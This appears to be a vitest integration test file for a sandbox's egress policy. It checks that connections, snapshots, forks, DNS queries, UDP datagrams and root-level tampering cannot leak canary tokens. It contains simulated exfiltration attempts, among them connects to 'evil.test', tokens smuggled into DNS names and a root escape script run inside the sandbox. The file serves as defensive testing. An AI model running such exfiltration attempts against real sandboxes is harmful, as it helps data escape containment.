/**
 * Bytes that would get out of a sandbox because of what it had before: connections from under an older policy, older policies, names with other
 * meanings; because what decides was killed; and by what has no other way out to be compared with.
 */
import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { Sandbox } from "alcove";
import { afterAll, beforeAll, expect, test } from "vitest";
import { waitFor } from "../../packages/server/src/lib/backoff.js";
import type { TestDaemon } from "../harness/daemon.js";
import { allAttempts } from "./bypass/all-attempts.js";
import { type Attempt, send } from "./bypass/attempt.js";
import { Canaries } from "./bypass/canaries.js";
import { kinds, openSessions } from "./bypass/open-sessions.js";
import { allAllowed, policiesTried, tightened, withOpaque } from "./bypass/policies.js";
import { createSandbox, startDaemon } from "./bypass/setting.js";
import { askFor, type Known, tokensFor, tryInside } from "./bypass/trial.js";

const canaries = await Canaries.start();
const { ground } = canaries;
const loose = policiesTried(ground).public;
const allowed = allAttempts(ground).filter(({ isAllowed }) => isAllowed);
const nothing = { defaultAction: "Deny" } as const;
let daemon: TestDaemon;
let sandbox: Sandbox;
let known: Known;

beforeAll(async () => {
  daemon = await startDaemon(canaries);
  sandbox = await createSandbox(daemon, allAllowed(ground));
  known = await tryInside(sandbox, tokensFor(allowed));
}, 600_000);
afterAll(async () => {
  await canaries[Symbol.asyncDispose]();
  await daemon?.[Symbol.asyncDispose]();
});

test("what is open when the policy is tightened is cut off, and stays so after a sleep", async () => {
  await sandbox.setEgressPolicy(withOpaque(ground));
  const sessions = await openSessions(sandbox, ground);
  const before = await sessions.send();
  for (const kind of kinds) expect(canaries.whatHas(before[kind] ?? ""), `${kind} before`).not.toEqual([]);
  await sandbox.setEgressPolicy(tightened);
  const after = await sessions.send();
  await sandbox.stop();
  await sandbox.resume();
  const awake = await sessions.send();
  for (const kind of kinds) {
    expect(canaries.whatHas(after[kind] ?? ""), kind).toEqual([]);
    expect(canaries.whatHas(awake[kind] ?? ""), `${kind} after a sleep`).toEqual([]);
  }
}, 240_000);

test("a policy of before does not come back with a resume, a fork or a rollback", async () => {
  await sandbox.setEgressPolicy(loose);
  expect(await arriving(sandbox)).toBe(allowed.length);
  const { id } = await sandbox.snapshot();
  await sandbox.setEgressPolicy(nothing);
  expect(await arriving(sandbox)).toBe(0);
  await sandbox.stop();
  await sandbox.resume();
  expect(await arriving(sandbox), "after a resume").toBe(0);
  const [copy] = (await sandbox.fork(1)).sandboxes;
  expect(copy && (await arriving(copy)), "in a fork").toBe(0);
  await sandbox.rollback(id);
  expect(await arriving(sandbox), "after a rollback").toBe(0);
  await using told = await daemon.alcove.sandboxes.create({ snapshot: id, egressPolicy: nothing });
  expect(await arriving(told), "from the snapshot, under another policy").toBe(0);
  await sandbox.setEgressPolicy(loose);
  expect(await arriving(sandbox), "under that policy again").toBe(allowed.length);
  await copy?.delete();
  await daemon.alcove.defaultGroup.snapshots.delete(id);
}, 240_000);

test("a policy that is tightened by its name holds for what starts from snapshots of before", async () => {
  const { egressPolicies, snapshots } = daemon.alcove.defaultGroup;
  await egressPolicies.set("named", loose);
  await sandbox.setEgressPolicy("named");
  expect(await arriving(sandbox)).toBe(allowed.length);
  const { id } = await sandbox.snapshot();
  await egressPolicies.set("named", nothing);
  expect(await arriving(sandbox)).toBe(0);
  const copy = await daemon.alcove.sandboxes.create({ snapshot: id });
  expect(await arriving(copy)).toBe(0);
  await copy.delete();
  await sandbox.setEgressPolicy(nothing);
  await snapshots.delete(id);
  await egressPolicies.delete("named");
}, 120_000);

test("an address stands for the same name after the daemon was killed, and in a fork, and for no other", async () => {
  await sandbox.setEgressPolicy({ defaultAction: "Allow" });
  const first = await askFor(sandbox, ["one.test", "two.test", "three.test"]);
  await daemon.kill();
  await daemon.restart();
  const second = await askFor(sandbox, ["four.test", "three.test", "one.test", "two.test"]);
  expect(second).toMatchObject(first);
  const [copy] = (await sandbox.fork(1)).sandboxes;
  if (copy === undefined) throw new Error("There is no fork.");
  const third = await askFor(copy, ["five.test", "four.test", "one.test"]);
  const all = { ...second, ...third };
  expect(third).toMatchObject({ "four.test": second["four.test"], "one.test": second["one.test"] });
  expect(new Set(Object.values(all)).size).toBe(5);
  await copy.delete();
}, 120_000);

test("nothing gets out while the gateway's process is killed again and again, and what is allowed does afterwards", async () => {
  await sandbox.setEgressPolicy(loose);
  const evil = (at: number): Attempt => ({
    name: `${at}`,
    steps: (token) => [
      { pauseMs: (at % 16) * 200 },
      { connect: { host: "evil.test", port: ground.raw } },
      send(token),
      { pauseMs: 300 },
      send(token),
    ],
  });
  const tokens = tokensFor(Array.from({ length: 64 }, (_, at) => evil(at)));
  const trying = tryInside(sandbox, tokens, known);
  const killed = new Set<number>();
  for (let time = 0; time < 3; time++) {
    const pid = await waitFor(async () => gatewayOf(daemon.pid, killed), AbortSignal.timeout(30_000));
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    process.kill(pid, "SIGKILL");
    killed.add(pid);
  }
  await trying;
  for (const token of tokens.values()) expect(canaries.whatHas(token)).toEqual([]);
  const allArriving = async () => (await arriving(sandbox)) === allowed.length || undefined;
  expect(await waitFor(allArriving, AbortSignal.timeout(60_000))).toBe(true);
}, 240_000);

test("nothing is sent to addresses that stand for no name, nor in datagrams, nor in questions to resolvers", async () => {
  await sandbox.setEgressPolicy(loose);
  const { own4 = "192.0.2.1", raw, https } = ground;
  const datagrams = createSocket("udp4");
  const came: string[] = [];
  datagrams.on("message", (bytes) => came.push(bytes.toString("latin1")));
  datagrams.bind(0);
  await once(datagrams, "listening");
  const token = randomBytes(16).toString("hex");
  const neighbours: Attempt[] = ["198.18.0.0", "198.18.0.200", "198.19.255.255", "fd41:6c63:6f76::200"].flatMap(
    (host) =>
      [raw, https].map((port) => ({
        name: `${host}:${port}`,
        steps: (each) => [{ connect: { host, port } }, send(each)],
      })),
  );
  const questions: Attempt[] = [own4, "8.8.8.8", "198.18.0.1"].flatMap((server) =>
    [false, true].map((overTcp) => ({
      name: server,
      steps: (each) => [{ ask: { name: `${each}.good.test`, server, overTcp } }],
    })),
  );
  const tokens = tokensFor([...neighbours, ...questions]);
  await tryInside(sandbox, tokens, known);
  const said = await sandbox.exec(["python3", "-c", datagramsTo, own4, `${datagrams.address().port}`, token]);
  expect(JSON.parse(said.stdout)).toEqual(["refused", "refused", "refused"]);
  for (const each of tokens.values()) expect(canaries.whatHas(each)).toEqual([]);
  expect(came).toEqual([]);
  datagrams.close();
}, 120_000);

test("root of a sandbox takes the capture away, and with it all ways out", async () => {
  const [copy] = (await sandbox.fork(1)).sandboxes;
  if (copy === undefined) throw new Error("There is no fork.");
  await copy.setEgressPolicy(loose);
  expect(await arriving(copy)).toBe(allowed.length);
  const token = randomBytes(16).toString("hex");
  await copy.files.write("/root/root.py", await readFile(join(import.meta.dirname, "bypass/root.py")));
  const { own4 = "192.0.2.1", raw } = ground;
  const { stdout, stderr } = await copy.exec(["python3", "/root/root.py", token, own4, `${raw}`]);
  expect(stderr).toBe("");
  const seen = JSON.parse(stdout) as Record<string, unknown>;
  expect(seen).toMatchObject({ tables: "done", interface: "done", before: expect.arrayContaining(["EPERM"]) });
  expect(new Set(Object.values(seen.channels as object))).toEqual(new Set(["EBUSY"]));
  expect(new Set(seen["without tables"] as string[])).toEqual(new Set(["timeout", "sent"]));
  expect(new Set(seen["without interface"] as string[])).toEqual(new Set(["ENETUNREACH"]));
  expect(canaries.whatHas(token)).toEqual([]);
  expect(await arriving(copy)).toBe(0);
  await copy.delete();
}, 120_000);

const datagramsTo = `import json, socket, sys
seen = []
for address in (sys.argv[1], "198.18.0.1", "8.8.8.8"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        try:
            conn.connect((address, int(sys.argv[2])))
            conn.send(sys.argv[3].encode())
            conn.settimeout(2)
            conn.recv(10)
            seen.append("answered")
        except TimeoutError:
            seen.append("lost")
        except OSError:
            seen.append("refused")
print(json.dumps(seen))`;

/** How many of what `loose` allows arrive. */
async function arriving(from: Sandbox): Promise<number> {
  const tokens = tokensFor(allowed);
  await tryInside(from, tokens, known);
  return [...tokens.values()].filter((token) => canaries.hasSeen(token)).length;
}

async function gatewayOf(daemonPid: number, but: ReadonlySet<number>): Promise<number | undefined> {
  const children = await readFile(`/proc/${daemonPid}/task/${daemonPid}/children`, "utf8");
  for (const pid of children.trim().split(" ").map(Number)) {
    const command = await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "");
    if (command.includes("worker-main") && !but.has(pid)) return pid;
  }
  return undefined;
}
